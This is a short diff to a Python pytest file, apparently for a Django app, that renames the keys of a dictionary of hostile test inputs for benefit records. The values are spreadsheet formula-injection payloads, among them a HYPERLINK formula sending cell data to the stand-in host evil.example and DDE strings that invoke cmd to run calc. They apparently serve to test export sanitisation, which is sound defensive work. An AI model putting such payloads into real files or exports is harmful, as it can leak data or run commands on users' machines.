@@ -23,12 +23,12 @@ from tests.factories import make_benefit
 pytestmark = pytest.mark.django_db
 
 HOSTILE = {
-    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-    "name_zh": "+1+cmd|' /C calc'!A0",
-    "provider": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "description": "-2+3+cmd|' /C calc'!A0",
-    "how_to_use": "\t=1+1",
-    "unit": "\r=1+1",
+    "name_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "name_zh_hans": "+1+cmd|' /C calc'!A0",
+    "provider_en": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "description_en": "-2+3+cmd|' /C calc'!A0",
+    "how_to_use_en": "\t=1+1",
+    "unit_en": "\r=1+1",
 }
 
 
